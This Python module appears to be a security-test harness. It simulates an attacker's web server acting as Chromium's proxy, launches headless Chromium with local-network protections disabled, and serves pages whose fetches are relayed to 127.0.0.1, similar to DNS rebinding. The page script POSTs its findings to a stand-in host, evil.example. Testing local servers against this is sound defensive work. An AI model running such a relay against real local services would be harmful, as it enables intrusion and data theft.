"""The web server of an attacker, and Chromium with one of its pages.

Chromium takes the server as its proxy, except for 127.0.0.1. So every name can lead to a page of the attacker first and
to a server of this machine afterwards, as with DNS rebinding.
"""

from __future__ import annotations

import asyncio
import http.client
import json
import shutil
import tempfile
import threading
from asyncio.subprocess import DEVNULL
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), "")
PAGE = """<!DOCTYPE html><script type="module">
const done = {};
for (const {name, url, options} of %s) {
  try {
    const answer = await fetch(url, options);
    done[name] = answer.type === "opaque" ? "sent" : answer.status;
  } catch (error) { done[name] = "blocked"; }
}
await fetch("http://evil.example/report", {method: "POST", mode: "no-cors", body: JSON.stringify(done)});
</script>"""
OWN_DEFENCE = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades,HttpsFirstBalancedMode"
WITHIN_S = 120


@dataclass
class Attacker:
    """Serves `pages` (`host:port` -> requests that its page sends) and collects what they report.

    Attributes:
        results: What became of each request: a status that the page could read, `sent`, or `blocked`.
        control: (method, Content-Type, body) of the requests that reached `control_url`.
    """

    pages: Mapping[str, list[dict[str, Any]]]
    port: int = 0
    results: dict[str, Any] = field(default_factory=dict)
    reports: int = 0
    control: list[tuple[str, str, str]] = field(default_factory=list)
    all_reported: threading.Event = field(default_factory=threading.Event)

    @property
    def control_url(self) -> str:
        """Accepts every request of a page, as the servers of this machine must not."""
        return f"http://127.0.0.1:{self.port}/control"

    def answer(self, request: Request) -> None:
        """Answer a page, take a report, or pass the request on to 127.0.0.1."""
        url = urlsplit(request.path)
        length = int(request.headers.get("Content-Length") or 0)
        body = request.rfile.read(length)
        if url.path == "/control":
            self.control.append((request.command, request.headers.get("Content-Type", ""), body.decode()))
            request.give(200, b"")
        elif url.path == "/frames":
            request.give(200, "".join(f'<iframe src="http://{host}/page"></iframe>' for host in self.pages).encode())
        elif url.path == "/page":
            request.give(200, (PAGE % json.dumps(self.pages[url.netloc])).encode())
        elif url.path == "/report":
            self.results |= json.loads(body)
            self.reports += 1
            request.give(200, b"")
            if self.reports == len(self.pages):
                self.all_reported.set()
        elif url.netloc.endswith(".example") or ".example:" in url.netloc:
            target = url._replace(scheme="", netloc="").geturl()
            passed = http.client.HTTPConnection("127.0.0.1", url.port or 80, timeout=WITHIN_S)
            passed.request(request.command, target, body or None, dict(request.headers.items()))
            answer = passed.getresponse()
            request.give(answer.status, answer.read())
            passed.close()
        else:
            request.give(404, b"")


class Request(BaseHTTPRequestHandler):
    attacker: Attacker

    def give(self, status: int, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def handle_one(self) -> None:
        self.attacker.answer(self)

    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = handle_one

    def log_message(self, *_: object) -> None:
        """Log nothing."""


@contextmanager
def attacking(attacker: Attacker) -> Iterator[Attacker]:
    handler = type("Handler", (Request,), {"attacker": attacker})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        attacker.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield attacker
        finally:
            server.shutdown()
            thread.join()


async def visit(attacker: Attacker) -> None:
    """Open a page that has all pages as frames, until each has reported."""
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as folder:
        options = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={folder}"]
        options += [f"--proxy-server=http://127.0.0.1:{attacker.port}", f"--disable-features={OWN_DEFENCE}"]
        command = [CHROMIUM, *options, "--remote-debugging-port=0", "http://evil.example/frames"]
        browser = await asyncio.create_subprocess_exec(*command, stdout=DEVNULL, stderr=DEVNULL)
        ended = asyncio.create_task(browser.wait())
        reported = asyncio.create_task(asyncio.to_thread(attacker.all_reported.wait, WITHIN_S))
        await asyncio.wait((ended, reported), return_when=asyncio.FIRST_COMPLETED)
        if not ended.done():
            browser.kill()
        await ended
        complete = attacker.all_reported.is_set()
        attacker.all_reported.set()
        await reported
    assert complete, f"{attacker.reports} of {len(attacker.pages)} pages reported; Chromium: {browser.returncode}"
